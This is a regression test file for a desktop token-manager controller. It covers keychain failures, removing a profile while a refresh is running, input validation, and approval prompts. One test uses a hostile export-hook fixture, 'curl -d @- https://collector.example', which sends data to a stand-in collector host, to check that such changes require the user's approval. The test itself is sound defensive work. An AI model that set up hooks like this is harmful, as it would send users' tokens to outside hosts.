import { describe, it, expect, beforeEach, afterEach, vi } from 'vitest';
import { AppController, type AppPorts } from '../main/core/app-controller.js';
import { TokenService } from '../main/core/token-service.js';
import { SettingsStore } from '../main/core/settings-store.js';
import { KeytarBackend, Vault, type SecretBackend } from '../main/core/infra/keychain.js';
import { TorusError } from '../main/core/errors.js';
import { addProfile } from '../main/core/domain/profiles.js';
import { startSimulator, type TorusSimulator } from '../scripts/simulator/torus-simulator.js';
import { distinctiveCredentials, rejectionOf, tempDir, uniqueProfileId } from './helpers/core-fixtures.js';

/**
 * AppController regressions on the real core: the throwaway keychain, a settings file in a
 * temp dir, HTTP to the simulator. Only the Electron ports are stubs.
 */

/** The real keychain, with a switch that makes the next write of one secret fail. */
class FlakyBackend implements SecretBackend {
  private readonly real = new KeytarBackend();
  failNextSetOf: string | null = null;

  get(service: string, account: string): Promise<string | null> {
    return this.real.get(service, account);
  }

  set(service: string, account: string, value: string): Promise<void> {
    if (this.failNextSetOf !== null && account.endsWith(`/${this.failNextSetOf}`)) {
      this.failNextSetOf = null;
      return Promise.reject(new TorusError('keychain-unavailable', 'The system keychain is not available (the keychain is locked).'));
    }
    return this.real.set(service, account, value);
  }

  delete(service: string, account: string): Promise<boolean> {
    return this.real.delete(service, account);
  }
}

let sim: TorusSimulator;
let dir: ReturnType<typeof tempDir>;
let store: SettingsStore;
let backend: FlakyBackend;
let vault: Vault;
let creds: { apiKey: string; apiSecret: string };
let id: string;
let gate: { arrive: () => void; wait: Promise<void> } | null;
let signInResult: () => Promise<{ requestToken: string } | { outcome: 'closed' | 'timeout' }>;

function ports(): AppPorts {
  return {
    clipboard: { writeText: () => undefined, readText: () => '' },
    signIn: () => signInResult(),
    loginItem: { get: () => ({ supported: false, enabled: false, note: null }), set: () => ({ supported: false, enabled: false, note: null }) },
    applyShortcut: () => null,
    hidePopover: () => undefined,
    quit: () => undefined,
    confirm: (request) => {
      confirmations.push(request);
      return Promise.resolve(confirmAnswer);
    },
    platform: 'linux',
  };
}

let confirmations: Array<{ message: string; detail: string }> = [];
let confirmAnswer = true;

/** A fetch that waits at a gate (when one is set) before talking to the simulator. */
const gatedFetch: typeof fetch = async (input, init) => {
  if (gate) {
    const current = gate;
    gate = null;
    current.arrive();
    await current.wait;
  }
  return fetch(input, init);
};

function makeGate(): { reached: Promise<void>; open: () => void } {
  let arrive!: () => void;
  let open!: () => void;
  const reached = new Promise<void>((resolve) => (arrive = resolve));
  const wait = new Promise<void>((resolve) => (open = resolve));
  gate = { arrive, wait };
  return { reached, open };
}

function controller(): AppController {
  const service = new TokenService({ settings: store, vault, clientOptions: { sleep: () => Promise.resolve(), fetchImpl: gatedFetch } });
  return new AppController(service, ports());
}

beforeEach(async () => {
  creds = distinctiveCredentials();
  sim = await startSimulator({ ...creds, requestTokenReuse: 'reusable' });
  dir = tempDir('torus-controller');
  store = SettingsStore.open({ dir: dir.path });
  backend = new FlakyBackend();
  vault = new Vault(backend);
  gate = null;
  confirmations = [];
  confirmAnswer = true;
  signInResult = () => Promise.resolve({ outcome: 'closed' });
  id = uniqueProfileId('ctl');
  store.update((d) => void addProfile(d, { name: id, baseUrl: sim.url }));
  await vault.set(id, 'apiKey', creds.apiKey);
  await vault.set(id, 'apiSecret', creds.apiSecret);
  await vault.set(id, 'requestToken', sim.issueRequestToken());
});

afterEach(async () => {
  await vault.deleteProfile(id);
  await sim.close();
  dir.remove();
});

describe('AppController regressions', () => {
  it('removing a profile while its refresh is in flight leaves no access token in the keychain', async () => {
    const ctl = controller();
    const { reached, open } = makeGate();
    const refreshing = ctl.refresh({ profileId: id }).catch((error: unknown) => error);
    await reached; // the secrets are read; the request waits at the gate
    const removing = ctl.removeProfile(id);
    open();
    await removing;
    await refreshing;
    expect(store.get().profiles.map((p) => p.id)).not.toContain(id);
    for (const name of ['apiKey', 'apiSecret', 'requestToken', 'accessToken'] as const) expect(await vault.get(id, name)).toBeNull();
    expect(store.get().tokens[id]).toBeUndefined();
  });

  it('a keychain failure part-way through saving credentials keeps the old key and secret together', async () => {
    const ctl = controller();
    backend.failNextSetOf = 'apiSecret';
    const error = await rejectionOf(() => ctl.saveCredentials({ profileId: id, apiKey: 'new-api-key-12345', apiSecret: 'new-api-secret-12345' }));
    expect(error).toMatchObject({ kind: 'keychain-unavailable' });
    expect(await vault.get(id, 'apiKey')).toBe(creds.apiKey);
    expect(await vault.get(id, 'apiSecret')).toBe(creds.apiSecret);
    // And the presence shown in the popover is re-read, not a stale cache.
    const state = await ctl.getState();
    expect(state.profiles.find((p) => p.id === id)!.credentials.apiKey.lastFour).toBe(creds.apiKey.slice(-4));
  });

  it('a request token captured after the profile was removed is discarded', async () => {
    const ctl = controller();
    const captured = `rt-${Date.now()}-captured`;
    signInResult = async () => {
      store.update((d) => void (d.profiles = d.profiles.filter((p) => p.id !== id)));
      await vault.delete(id, 'requestToken');
      return { requestToken: captured };
    };
    const error = await rejectionOf(() => ctl.signIn({ profileId: id }));
    expect(error).toMatchObject({ kind: 'not-configured' });
    expect(await vault.get(id, 'requestToken')).toBeNull();
    expect(sim.requestCount('generate')).toBe(0);
  });

  it.each(['two\nlines', 'tab\there', 'bell\u0007', 'esc\u001b[31mred'])('a profile name with control characters is refused: %j', async (name) => {
    const ctl = controller();
    await expect(ctl.addProfile({ name, mode: 'request-token' })).rejects.toMatchObject({ kind: 'invalid-input' });
    await expect(ctl.updateProfile({ profileId: id, name })).rejects.toMatchObject({ kind: 'invalid-input' });
    expect(store.get().profiles.map((p) => p.name)).toEqual([id]);
  });

  it('a relative token-file path is refused (it would land wherever the app was started); ~ and absolute paths are kept', async () => {
    const ctl = controller();
    await expect(ctl.updateProfile({ profileId: id, exportFilePath: 'token.txt' })).rejects.toMatchObject({ kind: 'invalid-input' });
    await ctl.updateProfile({ profileId: id, exportFilePath: '~/torus/token.txt' });
    expect(store.get().profiles[0]!.export.filePath).toBe('~/torus/token.txt');
    await ctl.updateProfile({ profileId: id, exportFilePath: ' ' });
    expect(store.get().profiles[0]!.export.filePath).toBeNull();
  });
});

describe("changes a compromised popover could abuse need the user's approval outside it", () => {
  it('a non-Torus base URL, a token file or a hook command asks once; declined changes nothing', async () => {
    const ctl = controller();
    confirmAnswer = false;
    const before = structuredClone(store.get().profiles.find((p) => p.id === id));
    for (const patch of [
      { baseUrl: 'https://collector.example' },
      { totpBaseUrl: 'https://collector.example' },
      { exportFilePath: '~/token.txt' },
      { exportHookCommand: 'curl -d @- https://collector.example' },
    ]) {
      const error = await ctl.updateProfile({ profileId: id, ...patch }).then(
        () => null,
        (e: unknown) => e as TorusError,
      );
      expect(error?.kind).toBe('invalid-input');
      expect(error?.message).toMatch(/not confirmed/);
    }
    expect(confirmations).toHaveLength(4);
    expect(confirmations[0]!.detail).toContain('https://collector.example');
    expect(confirmations[3]!.detail).toContain('curl -d @- https://collector.example');
    expect(store.get().profiles.find((p) => p.id === id)).toEqual(before);

    confirmAnswer = true;
    await ctl.updateProfile({ profileId: id, exportHookCommand: 'cat > /dev/null' });
    expect(store.get().profiles.find((p) => p.id === id)!.export.hookCommand).toBe('cat > /dev/null');
  });

  it('Torus hosts, loopback and unchanged values need no approval', async () => {
    const ctl = controller();
    confirmAnswer = false;
    await ctl.updateProfile({ profileId: id, baseUrl: 'https://connects.torusdigital.com' });
    await ctl.updateProfile({ profileId: id, totpBaseUrl: 'https://oapi-cug.torusdigital.com' });
    await ctl.updateProfile({ profileId: id, baseUrl: sim.url });
    await ctl.updateProfile({ profileId: id, exportFilePath: null, exportHookCommand: null });
    expect(confirmations).toHaveLength(0);
  });
});

describe('state delivery', () => {
  it('overlapping publishes deliver only the newest state (a late "refreshing" never overwrites "fresh")', async () => {
    const ctl = controller();
    const real = await ctl.getState();
    const delivered: string[] = [];
    ctl.onState((state) => delivered.push(state.status));
    let releaseOld: (value: typeof real) => void = () => undefined;
    const spy = vi
      .spyOn(ctl, 'getState')
      .mockImplementationOnce(() => new Promise((resolve) => (releaseOld = resolve)))
      .mockImplementationOnce(() => Promise.resolve({ ...real, status: 'fresh' }));
    const older = ctl.publish();
    const newer = ctl.publish();
    await newer;
    releaseOld({ ...real, status: 'refreshing' });
    await older;
    spy.mockRestore();
    expect(delivered).toEqual(['fresh']);
  });
});
